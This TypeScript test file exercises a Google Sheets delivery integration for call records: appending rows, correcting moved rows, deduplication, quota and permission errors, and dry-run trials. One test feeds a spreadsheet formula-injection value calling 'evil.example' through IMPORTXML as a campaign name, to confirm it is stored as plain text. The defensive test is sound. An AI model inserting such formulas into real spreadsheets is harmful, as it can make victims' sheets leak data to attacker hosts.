// Google Sheets through the whole way out: a row for each call, appended once and kept up to date wherever it was moved to.
import assert from 'node:assert/strict';
import { after, afterEach, before, beforeEach, test } from 'node:test';
import { sheets as sheetsClient } from '@googleapis/sheets';
import type { EventType } from '../../src/core/event.ts';
import { insertAttributions } from '../../src/store/attributions.ts';
import { findDestination } from '../../src/store/destinations.ts';
import { type DeliveryRoom, openDeliveryRoom } from '../support/delivering.ts';
import { openGoogleAccount, SERVICE_ACCOUNT, TOKEN_ORIGIN } from '../support/far/google-account.ts';
import { openGoogleSheets, SPREADSHEET } from '../support/far/google-sheets.ts';
import { openReceiver } from '../support/receiver.ts';
import { addVisit, answerOf } from '../support/records.ts';
import { until } from '../support/system.ts';

const GATHERED = 20_000;
const COLUMNS =
  '{"Day":"{started_date}","Phone":"{caller}","Talked":"{talk_seconds}","Campaign":"{campaign}","Deal":"{deal_amount}","Spam":"{spam}"}';
let room: DeliveryRoom;
let account: Awaited<ReturnType<typeof openGoogleAccount>>;
let google: Awaited<ReturnType<typeof openGoogleSheets>>;

before(async () => {
  room = await openDeliveryRoom();
});
after(() => room.close());
beforeEach(async () => {
  room.clock.ahead = GATHERED; // what is told has waited for others as long as it must
  account = await openGoogleAccount(room.now);
  google = await openGoogleSheets(account);
  room.lead(TOKEN_ORIGIN, account.url);
  room.lead('https://sheets.googleapis.com', google.url);
});
afterEach(async () => {
  await room.forgetDestinations();
  await Promise.all([google.close(), account.close()]);
  assert.deepEqual(room.problems.splice(0), []);
});

const EVENTS: EventType[] = ['call.finished', 'call.attributed', 'call.qualified', 'deal.changed'];
const connect = (settings: Record<string, string> = {}) =>
  room.connect(
    'google-sheets',
    { spreadsheet: `https://docs.google.com/spreadsheets/d/${SPREADSHEET}/edit#gid=0`, columns: COLUMNS, ...settings },
    { secrets: { serviceAccount: SERVICE_ACCOUNT }, events: EVENTS },
  );
const rows = (title = 'Calls') => google.sheets.get(title) ?? [];
const from = (campaign: string) => room.call({ visit: { source: { source: 'google', medium: 'cpc', campaign } } });
const appends = () => google.asked.filter((what) => what === 'POST values:append').length;

test('calls become rows below headings, all that came together in one request', async () => {
  const to = await connect();
  const [one, two] = [await from('roofs'), await from('walls')];
  await room.tell(room.event(one), room.event(two));
  await room.settled(to, ['done', 'done']);
  assert.deepEqual(rows()[0], ['Day', 'Phone', 'Talked', 'Campaign', 'Deal', 'Spam', 'Dialtrace ID']);
  assert.deepEqual(
    new Set(
      rows()
        .slice(1)
        .map(([, phone, talked, campaign, , , id]) => JSON.stringify([phone, talked, campaign, id])),
    ),
    new Set([JSON.stringify(['+79161234567', 60, 'roofs', one]), JSON.stringify(['+79161234567', 60, 'walls', two])]),
  );
  assert.equal(appends(), 1);
});

test('judged anew, spam, a deal: the row is corrected where it stands now, and what people wrote beside it stays', async () => {
  const to = await connect();
  const [one, other] = [await from('roofs'), await from('doors')];
  await room.tell(room.event(one), room.event(other));
  await room.settled(to, ['done', 'done']);
  const sheet = rows();
  for (const row of sheet) row.unshift(row === sheet[0] ? 'Ours' : 'a note');
  sheet.splice(1, 2, ...sheet.slice(1).reverse()); // somebody sorts
  const visit = await addVisit(room.db, room.site, { at: new Date(Date.now() - 200_000) });
  const answer = answerOf([{ p: 0.9, ...visit, source: 'yandex', medium: 'cpc', campaign: 'windows' }]);
  await insertAttributions(room.db, [{ ...answer, callId: one, version: 2 }]);
  await room.settled(to, ['done', 'done', 'done']);
  const { way } = await room.wayOf(to);
  await way.takeDeals([
    {
      ...{ farId: '7', phones: [], callId: one, title: null, stage: null, status: 'won', createdAt: room.now() },
      ...{ amount: { minor: 1_250_050, currency: 'RUB' }, changedAt: room.now() },
    },
  ]);
  await room.settled(to, ['done', 'done', 'done', 'done']);
  await room.db.query("update calls set spam = true, spam_by = 'person' where id = $1", [one]);
  await room.tell(room.event(one, 'call.qualified', { about: { category: 'spam' } }));
  await room.settled(to, ['done', 'done', 'done', 'done', 'done']);
  const row = (id: string) =>
    rows()
      .filter((cells) => cells.includes(id))
      .map((cells) => [cells[0], ...cells.slice(4, 7)]);
  assert.deepEqual(row(one), [['a note', 'windows', 12_500.5, '1']]); // the deal is not forgotten at the next event
  assert.deepEqual(row(other), [['a note', 'doors', '', '']]);
});

for (const fate of ['lost', 'cut'] as const)
  test(`rows whose answer never came (${fate}) are looked for before they are appended again: each call has one`, async () => {
    const to = await connect();
    google.sheets.set('Calls', []);
    google.next.append = fate;
    const ids = [await from('roofs'), await from('walls')];
    await room.tell(...ids.map((id) => room.event(id)));
    await room.settled(to, ['due: cut-off', 'due: cut-off']);
    room.clock.ahead += 10_000;
    await room.settled(to, ['due: looked-for-soon', 'due: looked-for-soon']); // it may still be on its way in at Google
    room.clock.ahead += 300_000;
    await room.settled(to, ['done', 'done']);
    for (const id of ids) assert.equal(rows().filter((cells) => cells.includes(id)).length, 1);
    assert.equal(appends(), fate === 'lost' ? 1 : 2);
  });

test('a node that dies between the append and its record leaves no second row', async () => {
  const to = await connect();
  google.next.append = 'lost';
  const id = await from('roofs');
  await room.tell(room.event(id));
  await room.settled(to, ['due: cut-off']);
  await room.db.query("update deliveries set state = 'sending' where destination_id = $1", [to]); // as it would be found
  await room.restart();
  room.clock.ahead += 600_000;
  await room.settled(to, ['done']);
  assert.equal(rows().filter((cells) => cells.includes(id)).length, 1);
});

test('a search that fails is no "not found"', async () => {
  const to = await connect();
  google.sheets.set('Calls', []);
  google.next.append = 'lost';
  const id = await from('roofs');
  await room.tell(room.event(id));
  await room.settled(to, ['due: cut-off']);
  google.next.answer = { status: 500 };
  room.clock.ahead += 300_000;
  await room.settled(to, ['due: http-500']);
  assert.equal(appends(), 1);
  google.next.isCut = true;
  room.clock.ahead += 300_000;
  await room.settled(to, ['due: not-understood']);
  assert.equal(appends(), 1);
  room.problems.splice(0);
  google.next.isCut = false;
  room.clock.ahead += 600_000;
  await room.settled(to, ['done']);
  assert.equal(rows().filter((cells) => cells.includes(id)).length, 1);
});

test('a row that somebody removed is not written again, nor one that stood beyond the end of the sheet', async () => {
  const to = await connect();
  const id = await from('roofs');
  await room.tell(room.event(id));
  await room.settled(to, ['done']);
  rows().splice(1, 1);
  await room.tell(room.event(id, 'call.attributed'));
  await room.settled(to, ['done', 'skipped: row-removed']);
  await (await room.wayOf(to)).way.link('row', id, '70000');
  await room.tell(room.event(id, 'call.attributed', { key: 'again' }));
  await room.settled(to, ['done', 'skipped: row-removed', 'skipped: row-removed']);
});

test('Google that is asked too often is left alone as long as it says; a sheet that is not shared needs its owner', async () => {
  const to = await connect();
  google.next.answer = {
    ...{ status: 429, headers: { 'content-type': 'application/json' } },
    body: JSON.stringify({
      error: { code: 429, status: 'RESOURCE_EXHAUSTED', message: 'Quota exceeded', details: [{ retryDelay: '61s' }] },
    }),
  };
  await room.tell(room.event(await from('roofs')));
  await room.settled(to, ['due: http-429']);
  const { restsUntil } = (await findDestination(room.db, to)) ?? {};
  assert.ok((restsUntil?.getTime() ?? 0) - room.now().getTime() > 50_000);
  room.clock.ahead += 62_000;
  google.settings.shared = false;
  await until('it is paused', async () => {
    const { pausedWhy } = (await findDestination(room.db, to)) ?? {};
    return pausedWhy === 'no-access: The caller does not have permission' || undefined;
  });
});

test('nothing that a caller or a page says becomes a formula, and the sheet makes itself, with Russian headings if wanted', async () => {
  const to = await connect({ columns: '', headings: 'ru', sheet: "Звонки '26" });
  await room.tell(room.event(await from('=IMPORTXML("http://evil.example","//a")')));
  await room.settled(to, ['done']);
  const [headings = [], row = []] = rows("Звонки '26");
  assert.equal(row[headings.indexOf('Кампания')], '=IMPORTXML("http://evil.example","//a")'); // RAW: text, as the far side checks
  assert.match(
    `${row[headings.indexOf('Дата')]} ${row[headings.indexOf('Время')]}`,
    /^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/,
  );
  assert.equal(row[headings.indexOf('Вероятность')], 0.97);
});

test('a trial is a row of its own, marked as a test; a look shows what would be appended', async () => {
  const to = await connect();
  const callId = await from('roofs');
  const looked = await room.trial({ destinationId: to, callId, dry: true });
  assert.equal(looked?.outcome, 'not-sent');
  google.sheets.set('Calls', [['Day', 'Phone', 'Talked', 'Campaign', 'Deal', 'Spam', 'Dialtrace ID']]);
  const shown = (await room.trial({ destinationId: to, callId, dry: true }))?.exchanges.at(-1);
  assert.match(
    shown?.request.url ?? '',
    /values\/'Calls'!A1:append|values\/%27Calls%27!A1:append|A1:append|A1%3Aappend/,
  );
  assert.equal((await room.trial({ destinationId: to, callId, dry: false }))?.outcome, 'done');
  await room.tell(room.event(callId));
  await room.settled(to, ['done']);
  assert.deepEqual(
    rows().map((cells) => cells.at(-1)),
    ['Dialtrace ID', 'test', callId],
  );
});

test("Google's own client asks for the same", async () => {
  const to = await connect();
  google.sheets.set('Calls', [['Day', 'Phone', 'Talked', 'Campaign', 'Deal', 'Spam', 'Dialtrace ID']]);
  await room.tell(room.event(await from('roofs')));
  await room.settled(to, ['done']);
  const ours = google.got.find(({ path }) => path.includes('append'));
  const receiver = await openReceiver(() => ({ headers: { 'content-type': 'application/json' }, body: '{}' }));
  const client = sheetsClient({ version: 'v4', rootUrl: `${receiver.url}/` });
  await client.spreadsheets.values.append({
    ...{ spreadsheetId: SPREADSHEET, range: "'Calls'!A1", valueInputOption: 'RAW', insertDataOption: 'INSERT_ROWS' },
    ...{ prettyPrint: false, requestBody: JSON.parse(ours?.body ?? '') },
  });
  const theirs = receiver.got[0];
  await receiver.close();
  const asked = (path = '') => {
    const url = new URL(path, 'http://x');
    return [decodeURIComponent(url.pathname), Object.fromEntries(url.searchParams)];
  };
  assert.deepEqual(asked(ours?.path), asked(theirs?.path));
  assert.deepEqual([ours?.method, JSON.parse(ours?.body ?? '')], [theirs?.method, JSON.parse(theirs?.body ?? '')]);
});
